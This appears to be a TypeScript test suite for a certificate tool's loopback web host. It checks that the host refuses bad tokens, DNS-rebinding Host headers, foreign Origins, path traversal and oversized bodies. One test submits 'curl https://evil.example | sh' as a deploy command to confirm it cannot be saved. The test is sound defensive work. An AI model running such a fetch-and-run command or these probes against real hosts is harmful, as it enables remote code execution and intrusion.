import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { request } from 'node:http';
import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createApp } from '../../../electron/core/app/create-app.ts';
import { startWebHost, type WebHost } from '../../../electron/web-host/server.ts';
import { seedCertificate } from '../core/app/seed-certificate.ts';

// The loopback web host, attacked the way a hostile page or a DNS-rebinding site would.
let host: WebHost;
let close: () => Promise<void>;
let certificateId: string;

before(async () => {
  const base = mkdtempSync(path.join(tmpdir(), 'webhost-'));
  const rendererDir = path.join(base, 'renderer');
  mkdirSync(rendererDir);
  writeFileSync(path.join(rendererDir, 'index.html'), '<!doctype html><title>PersistCert</title>');
  writeFileSync(path.join(base, 'secret.txt'), 'not for the browser');
  certificateId = await seedCertificate(path.join(base, 'data'));
  const app = await createApp({
    dataDir: path.join(base, 'data'),
    host: 'web',
    keystore: 'file',
    passphrase: async () => 'a long test passphrase',
    scryptN: 1024,
  });
  host = await startWebHost({ handler: app.handler, rendererDir });
  close = async () => {
    await host.close();
    await app.close();
  };
});
after(async () => close?.());

interface Reply {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}
function send(p: string, o: { method?: string; headers?: Record<string, string>; body?: string } = {}): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = request(
      { host: '127.0.0.1', port: host.port, path: p, method: o.method ?? 'GET', headers: { host: `127.0.0.1:${host.port}`, ...o.headers } },
      (res) => {
        let body = '';
        res.on('data', (d) => (body += d));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      },
    );
    req.on('error', reject);
    req.end(o.body);
  });
}
const call = (method: string, params: unknown, headers: Record<string, string> = {}) =>
  send(`/api/call/${method}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: host.origin, 'x-persistcert-token': host.token, ...headers },
    body: JSON.stringify(params),
  });

test('binds to 127.0.0.1 and prints a URL with a long random token', () => {
  assert.match(host.url, /^http:\/\/127\.0\.0\.1:\d+\/\?token=[A-Za-z0-9_-]{32}$/);
});

test('a real call through the contract works, with security headers and no CORS', async () => {
  const r = await call('caPresets', {});
  assert.equal(r.status, 200);
  const body = JSON.parse(r.body);
  assert.equal(body.ok, true);
  assert.ok(body.value.some((p: { id: string }) => p.id === 'letsencrypt-staging'));
  assert.match(String(r.headers['content-security-policy']), /default-src 'none'/);
  assert.equal(r.headers['access-control-allow-origin'], undefined);
});

const refused: { what: string; send: () => Promise<Reply>; status: number }[] = [
  { what: 'a wrong token', send: () => call('caPresets', {}, { 'x-persistcert-token': 'x'.repeat(32) }), status: 401 },
  {
    what: 'no token',
    send: () =>
      send('/api/call/caPresets', {
        method: 'POST',
        headers: { 'content-type': 'application/json', origin: `http://127.0.0.1:${host.port}` },
        body: '{}',
      }),
    status: 401,
  },
  { what: 'a foreign Host header (DNS rebinding)', send: () => call('caPresets', {}, { host: `evil.example:${host.port}` }), status: 403 },
  { what: 'a foreign Origin', send: () => call('caPresets', {}, { origin: 'http://evil.example' }), status: 403 },
  {
    what: 'a same-host, other-port Origin',
    send: () => call('caPresets', {}, { origin: `http://127.0.0.1:${host.port + 1}` }),
    status: 403,
  },
  {
    what: 'a POST without Origin',
    send: () =>
      send('/api/call/caPresets', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-persistcert-token': host.token },
        body: '{}',
      }),
    status: 403,
  },
  { what: 'the event stream without the token', send: () => send('/api/events'), status: 401 },
  { what: 'the page without the token', send: () => send('/'), status: 401 },
  {
    what: 'a CORS preflight',
    send: () => send('/api/call/caPresets', { method: 'OPTIONS', headers: { origin: 'http://evil.example' } }),
    status: 403,
  },
  { what: 'path traversal', send: () => send('/..%2Fsecret.txt'), status: 404 },
  { what: 'the page by a detour without the token', send: () => send('/assets/..%2Findex.html'), status: 401 },
  { what: 'the page by name without the token', send: () => send('/index.html'), status: 401 },
  { what: 'a path that is not valid percent-encoding', send: () => send('/%ZZ'), status: 400 },
  { what: 'a body over 2 MiB', send: () => call('caPresets', { pad: 'x'.repeat(3 * 1024 * 1024) }), status: 413 },
  {
    what: 'a chunked body over 2 MiB (no content-length)',
    send: () =>
      send('/api/call/caPresets', {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          origin: host.origin,
          'x-persistcert-token': host.token,
          'transfer-encoding': 'chunked',
        },
        body: JSON.stringify({ pad: 'x'.repeat(3 * 1024 * 1024) }),
      }),
    status: 413,
  },
  { what: 'an unknown method', send: () => call('shutdownEverything', {}), status: 404 },
];
for (const r of refused) {
  test(`refuses ${r.what}`, async () => {
    const reply = await r.send();
    assert.equal(reply.status, r.status, reply.body);
    assert.equal(reply.headers['access-control-allow-origin'], undefined);
    assert.doesNotMatch(reply.body, /not for the browser|<title>PersistCert/);
  });
}

test('bad parameters are refused by the contract with the field named', async () => {
  const r = await call('inspectCa', { directoryUrl: 42 });
  const body = JSON.parse(r.body);
  assert.equal(body.ok, false);
  assert.equal(body.error.code, 'bad-request');
  assert.match(body.error.message, /directoryUrl/);
});

test('the page is served with the token, and the event stream opens with it', async () => {
  const page = await send(`/?token=${host.token}`);
  assert.equal(page.status, 200);
  assert.match(page.body, /PersistCert/);
  const events = await new Promise<number>((resolve, reject) => {
    const req = request(
      { host: '127.0.0.1', port: host.port, path: `/api/events?token=${host.token}`, headers: { host: `127.0.0.1:${host.port}` } },
      (res) => {
        resolve(res.statusCode ?? 0);
        res.destroy();
      },
    );
    req.on('error', reject);
    req.end();
  });
  assert.equal(events, 200);
});

test('deploy commands can be shown but never set through the web host', async () => {
  const settings = (run: string | null) => ({
    certificateId,
    autoRenew: true,
    reuseKey: false,
    pem: null,
    pfx: null,
    command: run === null ? null : { run, timeoutSec: 60 },
    backupAccountId: null,
    failoverAfter: 3,
  });
  const refused = JSON.parse((await call('setRenewalSettings', settings('curl https://evil.example | sh'))).body);
  assert.equal(refused.ok, false);
  assert.match(refused.error.message, /cannot be set from the browser.*desktop app.*persistcert configure/);
  const shown = JSON.parse((await call('getRenewalSettings', { certificateId })).body);
  assert.equal(shown.ok, true);
  assert.equal(shown.value.command, null, 'nothing was saved');
  // Other renewal settings still save from the browser.
  const saved = JSON.parse((await call('setRenewalSettings', { ...settings(null), autoRenew: false })).body);
  assert.equal(saved.ok, true, JSON.stringify(saved));
  assert.equal(saved.value.autoRenew, false);
});

test('resolver settings: a typo or a bad port is refused with the entry named; "system" (system resolver only) is accepted', async () => {
  const settings = (resolvers: string[]) => ({
    resolvers,
    notifyOnSuccess: false,
    launchAtLogin: false,
    renewalsPaused: false,
    webhookUrl: '',
  });
  for (const [entry, message] of [
    ['not a server', /Resolver "not a server": .*not a DNS server: write an IP address/],
    ['1.1.1.1:99999', /Resolver "1\.1\.1\.1:99999": .*invalid port: use 1 to 65535/],
    ['dns.example', /not a DNS server/],
  ] as const) {
    const r = JSON.parse((await call('patchSettings', settings(['9.9.9.9', entry]))).body);
    assert.equal(r.ok, false, entry);
    assert.match(r.error.message, message);
  }
  const ok = JSON.parse((await call('patchSettings', settings(['system']))).body);
  assert.equal(ok.ok, true, JSON.stringify(ok));
  assert.deepEqual(ok.value.resolvers, ['system']);
});

test("a reload without the token gets the resume page, whose same-origin script restores the tab's token; neither carries a secret", async () => {
  const page = await send('/');
  assert.equal(page.status, 401);
  assert.match(String(page.headers['content-type']), /^text\/html/);
  assert.match(page.body, /<script src="\/resume-session\.js"><\/script>/);
  assert.match(page.body, /Open the full address PersistCert printed/);
  const script = await send('/resume-session.js');
  assert.equal(script.status, 200);
  assert.match(String(script.headers['content-type']), /^text\/javascript/);
  assert.match(script.body, /sessionStorage\.getItem\("persistcert\.token"\)/);
  for (const body of [page.body, script.body]) assert.equal(body.includes(host.token), false);
});

const draft = {
  step: 'check',
  reached: 4,
  presetId: 'custom',
  staging: false,
  customUrl: 'https://127.0.0.1:14000/dir',
  agreed: true,
  accountId: 'acct-1',
  namesText: 'www.example.test',
  replacesId: null,
  persistUntil: null,
  published: true,
  keyType: 'ec-p256',
  certificateId: null,
};

test('the wizard draft is kept by the core: saved, read back, refused when malformed, cleared', async () => {
  const saved = JSON.parse((await call('saveWizardDraft', { draft })).body);
  assert.equal(saved.ok, true, JSON.stringify(saved));
  const read = JSON.parse((await call('getWizardDraft', {})).body);
  assert.deepEqual(read.value.draft, draft);
  assert.equal(read.value.savedAt, saved.value.savedAt);
  for (const bad of [
    { ...draft, step: 'nowhere' },
    { ...draft, eabHmac: undefined, reached: 9 },
    { ...draft, namesText: 42 },
  ]) {
    const r = JSON.parse((await call('saveWizardDraft', { draft: bad })).body);
    assert.equal(r.ok, false, JSON.stringify(bad));
    assert.equal(r.error.code, 'bad-request');
  }
  assert.deepEqual(JSON.parse((await call('getWizardDraft', {})).body).value.draft, draft, 'a refused draft leaves the saved one');
  assert.equal(JSON.parse((await call('saveWizardDraft', { draft: null })).body).ok, true);
  assert.deepEqual(JSON.parse((await call('getWizardDraft', {})).body).value, { draft: null, savedAt: null });
});
